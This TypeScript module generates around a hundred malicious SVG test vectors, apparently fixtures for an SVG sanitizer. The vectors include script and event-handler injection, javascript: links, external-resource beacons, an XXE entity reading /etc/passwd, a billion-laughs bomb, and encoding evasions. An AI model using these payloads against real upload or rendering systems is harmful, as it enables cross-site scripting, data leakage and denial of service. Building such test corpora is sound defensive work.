import { gzipSync } from 'node:zlib';

/** An SVG that tries to run a script or to send a request. */
export type Vector = (run: string, out: string) => string | Buffer;

const SVG = 'http://www.w3.org/2000/svg';
const XHTML = 'http://www.w3.org/1999/xhtml';
const NAMES = `xmlns="${SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="${XHTML}"`;
const SIZE = 'viewBox="0 0 100 100" width="100" height="100"';
const BOX = '<rect width="100" height="100"/>';

/** Content between the tags of an icon. */
const INSIDE: Readonly<Record<string, Vector>> = {
  'a script': (run) => `<script>${run}</script>`,
  'a script in CDATA': (run) => `<script><![CDATA[${run}]]></script>`,
  'a script from outside': (_, out) => `<script href="${out}"/>`,
  'a script by xlink': (_, out) => `<script xlink:href="${out}"/>`,
  'a script from data:': (run) => `<script href="data:text/javascript,${run}"/>`,
  'a script by another prefix': (run) => `<s:script xmlns:s="${SVG}">${run}</s:script>`,
  'a script by a coded namespace': (run) =>
    `<s:script xmlns:s="http://www.w3.org/2000/s&#118;g">${run}</s:script>`,
  'a script of HTML': (run) => `<h:script>${run}</h:script>`,
  'a script of HTML by default': (run) =>
    `<g xmlns="${XHTML}"><script type="module">${run}</script></g>`,
  'a script in capitals': (run) => `<SCRIPT>${run}</SCRIPT><h:SCRIPT>${run}</h:SCRIPT>`,
  'a script in a title': (run) => `<title><h:script>${run}</h:script></title>`,
  'a script in metadata': (run) => `<metadata><script>${run}</script></metadata>`,
  'a script in a symbol': (run) =>
    `<symbol id="s"><script>${run}</script></symbol><use href="#s"/>`,
  'a script in an icon in an icon': (run) =>
    `<svg><g><svg><switch><script>${run}</script></switch></svg></g></svg>`,
  'a handler element': (run) =>
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" type="text/javascript">${run}</handler>`,
  'onload in an icon in an icon': (run) => `<svg onload="${run}"/>`,
  'onload with line ends': (run) => `<svg onload\n=\n"${run}"/>`,
  'onload in coded characters': (run) => `<svg onload="&#x65;val('${escapeQuotes(run)}')"/>`,
  'onload of a style': (run) => `<style onload="${run}"/>`,
  'onerror of an image': (run) => `<image href="x:" onerror="${run}"/>`,
  onclick: (run) => `<rect width="100" height="100" onclick="${run}"/>`,
  ONCLICK: (run) => `<rect width="100" height="100" ONCLICK="${run}" OnClick="${run}"/>`,
  'onclick with a prefix': (run) =>
    `<rect xmlns:s="${SVG}" width="100" height="100" s:onclick="${run}"/>`,
  onpointerover: (run) => `<rect width="100" height="100" onpointerover="${run}"/>`,
  onfocus: (run) => `<g tabindex="0" autofocus="" onfocus="${run}">${BOX}</g>`,
  'onfocusin of a link to itself': (run) => `<a id="a" href="#a" onfocusin="${run}">${BOX}</a>`,
  onbegin: (run) => `<animate attributeName="x" dur="1s" onbegin="${run}"/>`,
  onend: (run) => `<set attributeName="x" to="1" dur="1ms" onend="${run}"/>`,
  onanimationstart: (run) =>
    `<style>@keyframes k{}rect{animation:k 1s}</style><rect width="9" height="9" onanimationstart="${run}"/>`,
  ontransitionrun: (run) =>
    `<style>rect{transition:fill 1s}rect:hover{fill:red}</style><rect width="100" height="100" ontransitionrun="${run}"/>`,
  'a link to javascript:': (run) => `<a href="javascript:${run}">${BOX}</a>`,
  'an xlink to javascript:': (run) => `<a xlink:href="javascript:${run}">${BOX}</a>`,
  'a link to JaVaScRiPt:': (run) => `<a href=" JaVaScRiPt:${run}">${BOX}</a>`,
  'a link to java&#9;script:': (run) => `<a href="&#1;java&#9;scr&#10;ipt:${run}">${BOX}</a>`,
  'a link to java&Tab;script:': (run) => `<a href="java&#x9;script&#x3a;${run}">${BOX}</a>`,
  'a link to data:': (run) => `<a href="data:text/html,&lt;script>${run}&lt;/script>">${BOX}</a>`,
  'a link to elsewhere': (_, out) => `<a href="${out}">${BOX}</a>`,
  'a link in a new window': (_, out) => `<a target="_blank" href="${out}">${BOX}</a>`,
  'a link that pings': (_, out) => `<a href="#x" ping="${out}">${BOX}</a>`,
  'a link that is set later': (run) =>
    `<a><set attributeName="href" to="javascript:${run}"/>${BOX}</a>`,
  'an xlink that is set later': (run) =>
    `<a><set attributeName="xlink:href" to="javascript:${run}"/>${BOX}</a>`,
  'a link that is animated': (run) =>
    `<a href="#x"><animate attributeName="href" values="javascript:${run}" dur="9s"/>${BOX}</a>`,
  'onclick that is set later': (run) => `<g><set attributeName="onclick" to="${run}"/>${BOX}</g>`,
  'an image that is set later': (_, out) =>
    `<image width="9" height="9"><set attributeName="href" to="${out}"/></image>`,
  HTML: (run) =>
    `<foreignObject width="99" height="99"><h:img src="x:" onerror="${run}"/></foreignObject>`,
  'HTML in mixed case': (run) =>
    `<FOREIGNOBJECT><h:img src="x:" onerror="${run}"/></FOREIGNOBJECT>`,
  'HTML that opens': (run) =>
    `<foreignObject width="99" height="99"><h:details open="" ontoggle="${run}"/></foreignObject>`,
  'a frame with a page': (run) =>
    `<foreignObject width="99" height="99"><h:iframe srcdoc="&lt;script>${run}&lt;/script>"/></foreignObject>`,
  'a frame with javascript:': (run) =>
    `<foreignObject width="99" height="99"><h:iframe src="javascript:${run}"/></foreignObject>`,
  'a frame from outside': (_, out) => `<h:iframe src="${out}"/><iframe src="${out}"/>`,
  'an embed': (_, out) =>
    `<foreignObject width="99" height="99"><h:embed src="${out}"/></foreignObject>`,
  'an object': (_, out) =>
    `<foreignObject width="99" height="99"><h:object data="${out}"/></foreignObject>`,
  'a sound': (_, out) => `<h:audio src="${out}" autoplay=""/><audio href="${out}"/>`,
  'a film': (run, out) => `<h:video poster="${out}" src="x:" onerror="${run}"/>`,
  'a form': (_, out) =>
    `<foreignObject width="100" height="100"><h:form action="${out}"><h:button style="width:100px;height:100px"/></h:form></foreignObject>`,
  'a refresh': (_, out) => `<h:meta http-equiv="refresh" content="0;url=${out}"/>`,
  'a base': (_, out) => `<h:base href="${out}/"/><image href="x" width="9" height="9"/>`,
  'a style sheet': (_, out) => `<h:link rel="stylesheet" href="${out}"/>`,
  'a prefetch': (_, out) => `<h:link rel="prefetch" href="${out}"/>`,
  'a preload': (_, out) => `<h:link rel="preload" as="image" href="${out}"/>`,
  'an image': (_, out) => `<image href="${out}" width="9" height="9"/>`,
  'an image by xlink': (_, out) => `<image xlink:href="${out}" width="9" height="9"/>`,
  'an image of HTML': (_, out) => `<h:img src="${out}"/>`,
  'an image with another base': (_, out) =>
    `<g xml:base="${out}/"><image href="x" width="9" height="9"/><use href="#x"/></g>`,
  'an image in a filter': (_, out) =>
    `<filter id="f"><feImage href="${out}"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  'a part of another icon': (_, out) => `<use href="${out}#x"/><use xlink:href="${out}#x"/>`,
  'a part of an icon in data:': (run) => `<use href="${inData(run)}#x"/>`,
  'an image in data:': (run) => `<image href="${inData(run)}" width="9" height="9"/>`,
  'a gradient of another icon': (_, out) =>
    `<linearGradient id="g" href="${out}#x"/><pattern id="p" xlink:href="${out}#x"/>${BOX}`,
  'a text along another path': (_, out) =>
    `<text><textPath href="${out}#x">x</textPath><tref xlink:href="${out}#x"/></text>`,
  'a way along another path': (_, out) =>
    `<rect><animateMotion><mpath href="${out}#x"/></animateMotion></rect>`,
  'a style that imports': (_, out) => `<style>@import url("${out}");</style>`,
  'a style that imports in CDATA': (_, out) => `<style><![CDATA[@import "${out}";]]></style>`,
  'a style with a background': (_, out) => `<style>svg{background:url(${out})}</style>`,
  'a style of HTML': (_, out) => `<h:style>svg{background:url(${out})}</h:style>`,
  'a font': (_, out) =>
    `<style>@font-face{font-family:f;src:url(${out})}</style><text y="50" font-family="f">x</text>`,
  'a font element': (_, out) =>
    `<font-face font-family="f"><font-face-src><font-face-uri href="${out}"/></font-face-src></font-face>`,
  'a style attribute': (_, out) => `<svg style="background:url(${out})">${BOX}</svg>`,
  'a style attribute in quotes': (_, out) => `<g style="mask: url( '${out}#m' )">${BOX}</g>`,
  'a style attribute in escapes': (_, out) => `<g style="mask:\\75 rl(${out}#m)">${BOX}</g>`,
  'a style attribute with a comment': (_, out) =>
    `<g style="mask:/**/url(${out}#m)/*)*/;fill:url(#a)">${BOX}</g>`,
  'a style attribute with image-set': (_, out) =>
    `<g style="mask-image:image-set('${out}' 1x)">${BOX}</g>`,
  'a style attribute with a cursor': (_, out) => `<g style="cursor:url(${out}),auto">${BOX}</g>`,
  'a fill': (_, out) => `<rect width="9" height="9" fill="url(${out}#g) red"/>`,
  'a mask': (_, out) => `<rect width="9" height="9" mask="url(${out}#m)"/>`,
  'a clip': (_, out) => `<rect width="9" height="9" clip-path="url(${out}#c)"/>`,
  'a filter': (_, out) => `<rect width="9" height="9" filter="url(${out}#f)"/>`,
  'a filter after one of its own': (_, out) =>
    `<rect width="9" height="9" filter="url(#f) URL( &#34;${out}#f&#34; )"/>`,
  'a marker': (_, out) => `<path d="M0 0L9 9" stroke="red" marker-end="url(${out}#m)"/>`,
  'a cursor': (_, out) => `<g cursor="url(${out}),auto">${BOX}</g>`,
  'an old link that shows itself': (_, out) =>
    `<g xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad" xlink:href="${out}">${BOX}</g>`,
  'text that looks like a script': (run) =>
    `<text><![CDATA[</text><script>${run}</script>]]></text>`,
  'text with a coded script': (run) => `<desc>&lt;script>${run}&lt;/script></desc>`,
  'a name that looks like a script': (run) =>
    `<g id="&quot;>&lt;script>${run}&lt;/script>" aria-label="&quot;>&lt;script>${run}">${BOX}</g>`,
  'a comment that looks closed': (run) => `<!--><script>${run}</script>-->`,
  'a section that looks closed': (run) => `<text><![CDATA[]]]]><![CDATA[><script>${run}]]></text>`,
};

/** Whole documents. */
const WHOLE: Readonly<Record<string, Vector>> = {
  'onload of the icon': (run) => `<svg ${NAMES} ${SIZE} onload="${run}"/>`,
  'an icon by a prefix': (run) =>
    `<s:svg xmlns:s="${SVG}" onload="${run}"><s:script>${run}</s:script></s:svg>`,
  'a style sheet before it': (_, out) => `<?xml-stylesheet href="${out}"?><svg ${NAMES}/>`,
  'a style sheet with a script before it': (run) =>
    `<?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent(`<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><html xmlns="${XHTML}"><script>${run}</script></html></x:template></x:stylesheet>`)}"?><svg ${NAMES}/>`,
  'an entity with a script': (run) =>
    `<!DOCTYPE svg [<!ENTITY x "<script xmlns='${SVG}'>${run.replaceAll("'", '`')}</script>">]><svg ${NAMES}>&x;</svg>`,
  'an entity from a file': () =>
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${NAMES}><text>&x;</text></svg>`,
  'an entity from outside': (_, out) =>
    `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${out}">%x;]><svg ${NAMES}/>`,
  'an attribute by definition': (run) =>
    `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run}">]><svg ${NAMES}/>`,
  'a document type from outside': (_, out) => `<!DOCTYPE svg SYSTEM "${out}"><svg ${NAMES}/>`,
  'many laughs': () =>
    `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><svg ${NAMES}><text>&c;</text></svg>`,
  'UTF-16': (run) => Buffer.from(`\uFEFF<svg ${NAMES}><script>${run}</script></svg>`, 'utf16le'),
  'UTF-16 by declaration': (run) =>
    Buffer.from(
      `\uFEFF<?xml version="1.0" encoding="UTF-16"?><svg ${NAMES} onload="${run}"/>`,
      'utf16le',
    ),
  'UTF-7 by declaration': (run) =>
    `<?xml version="1.0" encoding="UTF-7"?><svg ${NAMES}><text>+ADw-script+AD4-${run}+ADw-/script+AD4-</text></svg>`,
  'bytes that are not UTF-8': (run) =>
    Buffer.from(`<svg ${NAMES} id="\xff\xfe"><script>${run}</script></svg>`, 'latin1'),
  'version 1.1': (run) => `<?xml version="1.1"?><svg ${NAMES}><script>${run}</script></svg>`,
  compressed: (run) => gzipSync(`<svg ${NAMES}><script>${run}</script></svg>`),
  'a page of HTML': (run) => `<html xmlns="${XHTML}"><svg ${NAMES}/><script>${run}</script></html>`,
  'a page without a namespace': (run) => `<svg ><script>${run}</script></svg>`,
  'a page after it': (run) =>
    `<svg ${NAMES}/><html xmlns="${XHTML}"><script>${run}</script></html>`,
  'a page before it': (run) => `<!--<svg >--><html><script>${run}</script></html>`,
};

function inData(run: string): string {
  const svg = `<svg xmlns="${SVG}" id="x" onload="${run}"><script>${run}</script></svg>`;
  return `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`;
}

function escapeQuotes(text: string): string {
  return text.replaceAll("'", "\\'");
}

export const VECTORS: Readonly<Record<string, Vector>> = {
  ...Object.fromEntries(
    Object.entries(INSIDE).map(([name, vector]): [string, Vector] => [
      name,
      (run, out) => `<svg ${NAMES} ${SIZE}>${vector(run, out)}</svg>`,
    ]),
  ),
  ...WHOLE,
};
